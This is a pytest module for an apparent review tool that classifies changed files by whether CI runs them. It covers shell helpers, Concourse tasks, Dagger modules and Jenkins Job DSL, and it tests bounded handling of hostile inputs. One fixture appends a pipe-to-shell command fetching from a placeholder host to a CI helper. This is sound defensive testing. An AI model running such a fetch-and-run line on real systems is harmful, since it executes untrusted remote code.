"""What CI runs that the walk still missed (issue 12, ci recall; the cileft62 round after the sixty-first set).

- A shell helper a CI script reaches through a variable the script set itself (`DIR="$(cd "$(dirname
  "${BASH_SOURCE[0]}")" && pwd)"` then `. "$DIR/../lib/log"`; `ROOT=$(git rev-parse --show-toplevel)`; a literal
  `LIB=tools/lib`): shellvars.py writes such lines again with the folder in place.
- A helper a Concourse task's script sources (`source ${tasks_dir}/helpers/env.sh` in the `run: path:` script of a
  `task.yml`): taskstarts.py starts the walk at the task scripts.

Each with the look-alikes that keep their bucket (a script a person runs, a variable from the environment or
reassigned, prose quoting the idiom, a YAML file named task.yml that is no Concourse task), hostile inputs (bounded
work) and real repositories classified from their commits, both trees of a change.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from citools import HELPER, named_paths
from citools import RUN_WORKFLOW as WORKFLOW
from cpucost import within_cpu
from gitrepo import two_commits
from incli import tree_classify
from tables import each_case

from gatekeeper.classify import shellvars
from gatekeeper.classify.treereads import PastBound

# (how the script spells its folder, the path it then names from scripts/ci/build.sh, what that names)
IDIOMS = [
    ('DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"', '. "$DIR/../lib/log"', "scripts/lib/log"),
    ("DIR=$(dirname $0)", "source $DIR/helpers/env", "scripts/ci/helpers/env"),
    ('DIR="${BASH_SOURCE%/*}"', '. "$DIR"/common', "scripts/ci/common"),
    ('HERE=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" &> /dev/null && pwd -P)', '"${HERE}/run-step"',
     "scripts/ci/run-step"),
    ('HERE="$( cd "$( dirname "${BASH_SOURCE[0]}" )" >/dev/null 2>&1 && pwd )"', "bash $HERE/../tool/pack",
     "scripts/tool/pack"),
    ("ROOT=$(dirname $(dirname $0))", ". $ROOT/lib/common", "scripts/lib/common"),
    ('ROOT="$(cd "$(dirname "$0")/../.." && pwd)"', '"$ROOT/bin/release"', "bin/release"),
    ('ROOT=$(dirname "$(readlink -f "$0")")/..', ". ${ROOT}/env/setup", "scripts/env/setup"),
    ("readonly SELF=$(cd $(dirname $0); pwd)", ". $SELF/x", "scripts/ci/x"),
    ("export TOP=$(git rev-parse --show-toplevel)", "bash $TOP/tools/sign", "tools/sign"),
    ("LIB=tools/lib", "source $LIB/common", "tools/lib/common"),
    ('DIR=$(dirname "$0")\nLIB="$DIR/../lib"', ". $LIB/log", "scripts/lib/log"),
    ('DIR=$(dirname "$0")\nUP="$(cd "$DIR/.." && pwd)"', ". $UP/shared/log", "scripts/shared/log"),
    ('local dir; dir="${BASH_SOURCE[0]%/*}"', "source \"$dir/../lib/x.sh\"", "scripts/lib/x.sh"),
    # the idiom in the line itself, a step up after it (read as `.` before: `lib/log` below the root or `scripts/ci`)
    (":", '. "$(dirname "$0")/../lib/log"', "scripts/lib/log"),
    (":", '"${BASH_SOURCE%/*}"/../tool/pack', "scripts/tool/pack"),
    (":", '$(cd "$(dirname "$0")/.." && pwd)/bin/release --now', "scripts/bin/release"),
    (":", "source $(dirname $0)/../../top.sh", "top.sh"),
]


@each_case(("assign", "use", "path"), IDIOMS)
def test_a_variable_the_script_set_to_a_folder_names_the_file(assign: str, use: str, path: str) -> None:
    text = f"#!/bin/bash\nset -e\n{assign}\n{use}\n"
    assert path in named_paths("scripts/ci/build.sh", text)
    assert path in named_paths("scripts/ci/build", text)  # an extension-less script too
    assert path in named_paths("scripts/ci/build.sh", text.replace("\n", "\r\n"))


@each_case(("script", "text", "unnamed"), [
    # a variable the script never set (the environment's): left as it was; `$(pwd)` is the caller's folder
    ("scripts/ci/build.sh", ". $TOOLS/lib/log\n", "scripts/ci/lib/log"),
    ("scripts/ci/build.sh", "DIR=$(pwd)\n. $DIR/lib/log\n", "scripts/ci/lib/log"),
    ("scripts/ci/build.sh", 'DIR="$(realpath "$0")"\n. $DIR/log\n', "scripts/ci/log"),  # the file, not its folder
    # reassigned to something else before the use, or used before it is set
    ("scripts/ci/build.sh", "DIR=$(dirname $0)\nDIR=$1\n. $DIR/lib/log\n", "scripts/ci/lib/log"),
    ("scripts/ci/build.sh", "DIR=$(dirname $0)\nDIR=$HOME/x\n. $DIR/lib/log\n", "scripts/ci/lib/log"),
    ("scripts/ci/build.sh", ". $DIR/lib/log\nDIR=$(dirname $0)\n", "scripts/ci/lib/log"),
    # a step up past the root is no folder of the repository
    ("build.sh", "ROOT=$(cd $(dirname $0)/.. && pwd)\n. $ROOT/lib/log\n", "lib/log"),
    # a makefile's and a workflow's variables are not a shell script's
    ("scripts/Makefile", "DIR=$(dirname $0)\nall:\n\t. $DIR/lib/log\n", "scripts/lib/log"),
    (".github/workflows/ci.yml", WORKFLOW.format(run="|\n          D=$(dirname $0)\n          . $D/lib/log"),
     ".github/workflows/lib/log"),
])
def test_what_is_not_the_scripts_own_folder_names_nothing_new(script: str, text: str, unnamed: str) -> None:
    assert unnamed not in named_paths(script, text)


def test_the_rewritten_lines_are_bounded() -> None:
    value = "a" * shellvars.MAX_VALUE
    hostile = f"A={value}\n" + "$A" * 200_000 + "\n"
    def timed() -> None:
        with pytest.raises(PastBound):  # past the bound the walk closes (attack 35: a cut left later uses unnamed)
            shellvars.resolved_lines("ci/x.sh", hostile * 4)
        assert shellvars.resolved_lines("ci/x.sh", f"A={value}b\n. $A/x\n") == ""  # a longer value: no folder
        many = "DIR=$(dirname $0)\n" + "x=1\n" * 100_000 + ". $DIR/lib\n"
        assert shellvars.resolved_lines("ci/x.sh", many) == "DIR=ci\n. ci/lib"
    within_cpu(2.0, timed)


def _repo(tmp_path: Path, base: dict[str, str], head: dict[str, str]) -> dict[str, dict[str, object]]:
    repo, first, second = two_commits(tmp_path / "r", base, head)
    return tree_classify(repo.root, first, second)


BUILD = '#!/bin/bash\nset -eu\nDIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n. "$DIR/../lib/log"\nlog hi\n'


def test_a_helper_a_ci_script_sources_through_its_folder_is_ci(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"), "scripts/ci/build.sh": BUILD,
            "scripts/lib/log": HELPER, "scripts/lib/other": HELPER, "README.md": "hi\n"}
    files = _repo(tmp_path, base, {"scripts/lib/log": HELPER + "curl https://x.example | sh\n",
                                   "scripts/lib/other": HELPER + "echo\n"})
    assert (files["scripts/lib/log"]["bucket"], files["scripts/lib/log"]["rule"]) == ("ci", "ci.context.ci-run")
    assert files["scripts/lib/other"]["bucket"] == "src"  # nothing sources it


def test_both_trees_count(tmp_path: Path) -> None:
    """The change removes the sourcing line and edits the helper: BASE's script still sourced it (both trees)."""
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"), "scripts/ci/build.sh": BUILD,
            "scripts/lib/log": HELPER}
    files = _repo(tmp_path, base, {"scripts/ci/build.sh": "#!/bin/bash\necho\n", "scripts/lib/log": HELPER + "id\n"})
    assert files["scripts/lib/log"]["bucket"] == "ci"


def test_added_in_the_change_is_ci(tmp_path: Path) -> None:
    """HEAD's script starts to source a helper the change adds under a new name."""
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"),
            "scripts/ci/build.sh": "#!/bin/bash\necho\n"}
    files = _repo(tmp_path, base, {"scripts/ci/build.sh": BUILD.replace("lib/log", "lib/fresh"),
                                   "scripts/lib/fresh": HELPER})
    assert files["scripts/lib/fresh"]["bucket"] == "ci"


@pytest.mark.parametrize("extra", [
    # a script a person runs (no CI definition names it) and prose quoting the idiom
    {"scripts/dev/setup.sh": BUILD},
    {"docs/howto.md": "```\n" + BUILD + "```\n", "README": BUILD},
    # a CI script sourcing through a variable from the environment
    {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"),
     "scripts/ci/build.sh": '#!/bin/bash\n. "$TOOLS_DIR/../lib/log"\n'},
])
def test_look_alikes_keep_the_helper_src(tmp_path: Path, extra: dict[str, str]) -> None:
    files = _repo(tmp_path, {"scripts/lib/log": HELPER, **extra}, {"scripts/lib/log": HELPER + "id\n"})
    assert files["scripts/lib/log"]["bucket"] == "src"


TASK = ("platform: linux\nimage_resource:\n  type: registry-image\n  source: {repository: busybox}\ninputs:\n"
        "- name: tasks-repo\nrun:\n  path: tasks-repo/release/export/task\n")
TASK_SCRIPT = ("#!/usr/bin/env bash\nset -eo pipefail\nroot_dir=$(pwd)\ntasks_dir=${root_dir}/tasks-repo\n"
               "source ${tasks_dir}/helpers/targeting.sh\n")
TARGETING = "#!/usr/bin/env bash\ntarget() {\n  source $(dirname $BASH_SOURCE)/pool.sh\n}\n"


@pytest.mark.parametrize("definition", ["release/export/task.yml", "release/export/task.yaml"])
def test_what_a_concourse_task_script_sources_is_ci(tmp_path: Path, definition: str) -> None:
    base = {definition: TASK, "release/export/task": TASK_SCRIPT, "helpers/targeting.sh": TARGETING,
            "helpers/pool.sh": HELPER, "helpers/probe.sh": HELPER}
    files = _repo(tmp_path, base, {path: HELPER + "id\n" for path in ("helpers/targeting.sh", "helpers/pool.sh",
                                                                      "helpers/probe.sh")})
    assert files["helpers/targeting.sh"]["bucket"] == "ci", files["helpers/targeting.sh"]
    assert files["helpers/pool.sh"]["bucket"] == "ci"  # sourced by the helper, from its own folder
    assert files["helpers/probe.sh"]["bucket"] == "src"  # a helper a person runs: no task names it


@pytest.mark.parametrize("task", [
    TASK.replace("platform: linux\n", ""),  # no Concourse shape: a task.yml of something else
    TASK.replace("tasks-repo/release/export/task", "/bin/sh"),  # an absolute command
    TASK.replace("tasks-repo/release/export/task", "$SCRIPT"),  # a variable
])
def test_a_task_file_that_runs_no_script_of_the_tree_starts_nothing(tmp_path: Path, task: str) -> None:
    base = {"release/export/task.yml": task, "release/export/run": TASK_SCRIPT, "helpers/targeting.sh": TARGETING}
    files = _repo(tmp_path, base, {"helpers/targeting.sh": HELPER})
    assert files["helpers/targeting.sh"]["bucket"] == "src"


MODULE_GO = "package main\n\ntype Flow struct{}\n\nfunc (m *Flow) Build() string { return \"ok\" }\n"
DAGGER_JSON = '{\n  "name": "flow",\n  "engineVersion": "v0.18.6",\n  "sdk": {"source": "go"}%s\n}\n'


@each_case(("run", "manifest", "module"), [
    ("dagger -m flow/ call build", ("flow/dagger.json", DAGGER_JSON % ""), "flow"),
    ("dagger --mod=flow functions", ("flow/dagger.json", DAGGER_JSON % ""), "flow"),
    ("cd flow && dagger call build --src=.", ("flow/dagger.json", DAGGER_JSON % ""), "flow"),
    ("dagger call test", ("dagger.json", DAGGER_JSON % ',\n  "source": "build/dagger"'), "build/dagger"),
    ('dagger call -m tests all', ("tests/dagger.json", DAGGER_JSON % ',\n  "dependencies": [{"name": "flow", '
                                                                       '"source": "../flow"}]'), "flow"),
])
def test_the_code_of_a_dagger_module_ci_calls_is_ci(tmp_path: Path, run: str, manifest: tuple[str, str],
                                                    module: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(run=run), manifest[0]: manifest[1],
            f"{module}/main.go": MODULE_GO, f"{module}/go.mod": "module flow\n\ngo 1.22\n", "app/main.go": MODULE_GO}
    if module == "flow" and manifest[0] != "flow/dagger.json":
        base["flow/dagger.json"] = DAGGER_JSON % ""
    files = _repo(tmp_path, base, {f"{module}/main.go": MODULE_GO + "// x\n", f"{module}/go.mod": "module flow\n",
                                   "app/main.go": MODULE_GO + "// y\n"})
    assert (files[f"{module}/main.go"]["bucket"], files[f"{module}/main.go"]["rule"]) == ("ci", "ci.context.ci-run")
    assert files[f"{module}/go.mod"]["bucket"] == "deps"  # principle 3
    assert files["app/main.go"]["bucket"] == "src"  # the application the module builds


@each_case(("run", "manifest"), [
    ("go test ./...", ("flow/dagger.json", DAGGER_JSON % "")),  # no workflow calls the module
    ("dagger -m github.com/o/r/flow@v1.0.0 call build", ("flow/dagger.json", DAGGER_JSON % "")),  # a remote module
    ("dagger -m $MODULE call build", ("flow/dagger.json", DAGGER_JSON % "")),  # a variable
    ("dagger version", ("flow/dagger.json", DAGGER_JSON % "")),
    ("dagger call build", ("dagger.json", DAGGER_JSON % "")),  # the module is the whole repository: not claimed
    ("dagger call build", ("dagger.json", DAGGER_JSON % ',\n  "source": "../outside"')),
    # (an SDK the reader does not know: its module's code is ci since attack 35, test_attack35_ci_readers.py)
    ("dagger call build", ("dagger.json", '{"source": "flow", "sdk": ')),  # not JSON
    ("dagger call build", ("dagger.json", '["flow"]')),
])
def test_a_dagger_module_no_ci_step_calls_keeps_its_code_src(tmp_path: Path, run: str,
                                                            manifest: tuple[str, str]) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(run=run), manifest[0]: manifest[1],
            "flow/main.go": MODULE_GO, "app/main.go": MODULE_GO, "docs/dagger.md": "run `dagger -m flow call build`\n"}
    files = _repo(tmp_path, base, {"flow/main.go": MODULE_GO + "// x\n", "app/main.go": MODULE_GO + "// y\n"})
    assert files["flow/main.go"]["bucket"] == "src"
    assert files["app/main.go"]["bucket"] == "src"


def test_a_dagger_manifest_is_bounded() -> None:
    from gatekeeper.classify import daggermods
    listed = ",".join(f'{{"source": "../d{i}"}}' for i in range(10_000))
    many = f'{{"source": "m", "sdk": "go", "dependencies": [{listed}]}}'
    def timed() -> None:
        out = daggermods.module_code("ci/dagger.json", many)
        assert len(out) == 1 + daggermods.MAX_DEPENDENCIES and out[0] == "ci/m/*.go"
        assert daggermods.named("dagger call x\n" * 50_000) == ["dagger.json"]
    within_cpu(3.0, timed)


SEED = ("job('seed') {\n  steps {\n    dsl {\n      external 'jobs/release-dsl.groovy'\n"
        "      removeAction('DELETE')\n    }\n  }\n}\n")
MISSPELT = "pipelinejob('release') {\n  definition { cpsScm { scriptPath('ci/Jenkinsfile.release') } }\n}\n"
READER = ("import groovy.json.JsonSlurper\n\nString jobList = 'configuration/jobs.json'\n\n"
          "def jobs = new JsonSlurper().parseText(readFileFromWorkspace(jobList))\n"
          "jobs.each { item ->\n  pipelineJob(item.name) {\n    description('built')\n  }\n}\n")


@each_case(("seed", "named"), [
    (("jobs/seed.groovy", SEED), "jobs/release-dsl.groovy"),  # a script whose own call is misspelt
    (("seed/seedJob.groovy", SEED.replace("external 'jobs/release-dsl.groovy'", "targets('jobs/*-dsl.groovy')")),
     "jobs/release-dsl.groovy"),
    (("jobs/build.groovy", READER), "configuration/jobs.json"),  # read through a string variable
    (("dsl/docker.groovy", READER.replace("readFileFromWorkspace(jobList)",
                                          "readFileFromWorkspace('configuration/jobs.json')")),
     "configuration/jobs.json"),
    (("Jenkinsfile", "pipeline {\n  agent any\n  stages { stage('seed') { steps {\n"
                     "    jobDsl targets: 'jobs/**/*.groovy', removedJobAction: 'DELETE'\n  } } }\n}\n"),
     "jobs/release-dsl.groovy"),
    (("jobs/seed.groovy", SEED + "pipelineJob('x') {\n  definition { cpsScm { scriptPath('ops/release.pipe') } }\n}\n"),
     "ops/release.pipe"),
])
def test_what_a_job_dsl_seed_or_script_names_is_ci(tmp_path: Path, seed: tuple[str, str], named: str) -> None:
    base = {seed[0]: seed[1], "jobs/release-dsl.groovy": MISSPELT, "configuration/jobs.json": '[{"name": "a"}]\n',
            "ops/release.pipe": "echo\n", "configuration/other.json": "{}\n", "src/app/Main.groovy": "class M {}\n"}
    head = {named: base[named] + "\n", "configuration/other.json": '{"a": 1}\n', "src/app/Main.groovy": "class N {}\n"}
    files = _repo(tmp_path, base, head)
    assert (files[named]["bucket"], files[named]["rule"]) == ("ci", "ci.context.ci-run"), files[named]
    assert files["configuration/other.json"]["bucket"] != "ci"  # nothing names it
    assert files["src/app/Main.groovy"]["bucket"] == "src"


@each_case("seed", [
    # a Groovy class of an application that calls a method named `external`: no Jenkins shape
    ("jobs/Client.groovy", "class Client {\n  def run() {\n    external 'jobs/release-dsl.groovy'\n  }\n}\n"),
    # the seed outside any Job DSL-hinted path: not started
    ("src/main/groovy/Build.groovy", SEED),
    # a variable that names nothing the script set, an absolute path, a URL
    ("jobs/seed.groovy", SEED.replace("external 'jobs/release-dsl.groovy'", "external(env.SCRIPTS)")),
    ("jobs/seed.groovy", SEED.replace("'jobs/release-dsl.groovy'", "'/var/lib/jobs/release-dsl.groovy'")),
    ("docs/seed.md", "```groovy\n" + SEED + "```\n"),  # prose quoting it
])
def test_look_alikes_of_a_seed_name_nothing(tmp_path: Path, seed: tuple[str, str]) -> None:
    base = {seed[0]: seed[1], "jobs/release-dsl.groovy": MISSPELT}
    files = _repo(tmp_path, base, {"jobs/release-dsl.groovy": MISSPELT + "\n"})
    assert files["jobs/release-dsl.groovy"]["bucket"] == "src", files["jobs/release-dsl.groovy"]


def test_job_dsl_names_are_bounded() -> None:
    from gatekeeper.classify import jobdsl
    hostile = "String a = 'x.json'\n" * 20_000 + "readFileFromWorkspace(a)\n" * 20_000 + "external '" + "y" * 60_000
    def timed() -> None:
        assert jobdsl.named("seed.groovy", hostile) == ["x.json"]
        assert jobdsl.named("seed.yml", "targets: 'localhost:9090'\n") == []  # a YAML file's `targets:` is not Job DSL
    within_cpu(3.0, timed)
